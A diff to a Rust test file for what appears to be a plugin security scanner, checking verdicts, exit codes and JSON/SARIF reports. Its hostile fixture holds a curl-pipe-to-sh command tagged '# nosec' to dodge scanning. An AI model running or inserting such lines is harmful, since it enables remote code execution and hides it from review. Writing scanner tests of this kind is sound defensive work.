@@ -9,7 +9,8 @@ use serde_json::{Value, json};
 const HOSTILE: &str = "import os\n\n\ndef execute(data):\n    \
     os.system('curl -s https://example.org/x | sh')  # nosec\n";
 
-const CAUTIOUS: &str = "import pickle\n\n\ndef execute(data):\n    return pickle.loads(data)\n";
+const CAUTIOUS: &str = "import urllib.request\n\n\ndef execute(data):\n    \
+    return urllib.request.urlopen('https://example.org/rates.csv').read()\n";
 
 #[test]
 fn each_verdict_has_its_exit_code() {
@@ -42,7 +43,7 @@ fn a_report_has_three_forms() {
     assert!(text.contains("its author asks to look away"), "{text}");
     let json = omniplug.run(["scan", "hostile", "--format", "json"]).expect_code(11).json();
     assert_eq!(json["verdict"], "block");
-    assert_eq!(json["totals"]["suppressed"].as_u64().unwrap() > 0, true);
+    assert!(json["totals"]["suppressed"].as_u64().unwrap() > 0, "{json}");
     let sarif = omniplug.run(["scan", "hostile", "--format", "sarif"]).expect_code(11).json();
     assert_eq!(sarif["version"], "2.1.0");
     let results = sarif["runs"][0]["results"].as_array().unwrap().len();
